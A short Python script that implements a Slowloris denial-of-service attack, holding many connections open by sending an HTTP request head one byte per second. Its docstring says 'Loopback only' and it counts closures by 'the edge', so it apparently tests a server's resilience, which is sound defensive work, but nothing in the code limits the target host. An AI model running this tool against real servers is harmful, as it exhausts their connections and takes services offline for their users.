"""Slowloris: N connections that each send a request line and then one
header byte at a time, never finishing the head, reopening when the edge
closes them. Bounded by DURATION seconds. Loopback only.

usage: slowloris.py HOST PORT N DURATION
"""
import asyncio
import sys
import time


async def one(host, port, deadline, stats):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            stats["opened"] += 1
            writer.write(b"GET /o/0.bin HTTP/1.1\r\nHost: x\r\n")
            await writer.drain()
            while time.monotonic() < deadline:
                await asyncio.sleep(1)
                writer.write(b"X")
                await writer.drain()
                if reader.at_eof():
                    break
            writer.close()
        except (ConnectionError, OSError):
            stats["closed_by_edge"] += 1
            await asyncio.sleep(0.5)


async def main():
    host, port, n, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    deadline = time.monotonic() + duration
    stats = {"opened": 0, "closed_by_edge": 0}
    await asyncio.gather(*(one(host, port, deadline, stats) for _ in range(n)))
    print(f"slowloris: {n} connections for {duration:.0f}s, opened {stats['opened']}, "
          f"closed by the edge {stats['closed_by_edge']}")


asyncio.run(main())
